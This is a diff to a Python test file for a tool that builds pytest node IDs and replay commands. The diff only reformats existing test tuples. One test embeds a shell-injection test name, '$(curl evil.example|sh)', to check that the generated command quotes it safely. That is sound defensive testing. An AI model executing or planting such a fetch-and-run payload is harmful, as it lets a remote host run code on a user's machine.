@@ -18,7 +18,12 @@ from reports.selectors import pytest_node_id
         # pytest's default JUnit output has no file: the test module in the classname gives it.
         ("", "tests.test_math", "test_flaky", "tests/test_math.py::test_flaky"),
         ("", "tests.test_math.TestX", "test_a[1-2]", "tests/test_math.py::TestX::test_a[1-2]"),
-        ("", "pkg.sub.math_test.TestY.TestZ", "test_q", "pkg/sub/math_test.py::TestY::TestZ::test_q"),
+        (
+            "",
+            "pkg.sub.math_test.TestY.TestZ",
+            "test_q",
+            "pkg/sub/math_test.py::TestY::TestZ::test_q",
+        ),
         ("", "test_top", "test_y", "test_top.py::test_y"),
         # Not pytest: a Java class, a capitalised package, no classname.
         ("", "com.example.FooTest", "testBar", "com.example.FooTest::testBar"),
@@ -40,6 +45,9 @@ def test_the_replay_command_survives_any_test_name_in_a_shell() -> None:
                              name="test_v[$(curl evil.example|sh)]")  # fmt: skip
     command = reproduce_command(victim, polluter)
     assert shlex.split(command) == [
-        "pytest", "tests/test_a.py::test_p", "tests/test_b.py::test_v[$(curl evil.example|sh)]",
-        "-p", "no:randomly",
+        "pytest",
+        "tests/test_a.py::test_p",
+        "tests/test_b.py::test_v[$(curl evil.example|sh)]",
+        "-p",
+        "no:randomly",
     ]
